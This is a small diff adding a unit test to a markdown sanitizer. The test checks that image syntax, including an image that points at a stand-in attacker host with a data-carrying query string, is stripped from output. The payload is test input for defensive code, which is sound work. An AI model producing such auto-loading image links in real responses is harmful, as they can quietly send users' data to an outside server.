@@ -72,3 +72,8 @@ def test_safe_links_stay_links():
     assert safe_markdown("[docs](https://example.org) and [mail](mailto:a@b.c)") == (
         "[docs](https://example.org) and [mail](mailto:a@b.c)"
     )
+
+
+def test_images_are_not_loaded():
+    out = safe_markdown("![secret](https://evil.example/?q=data) and ![ref][1]")
+    assert "![" not in out
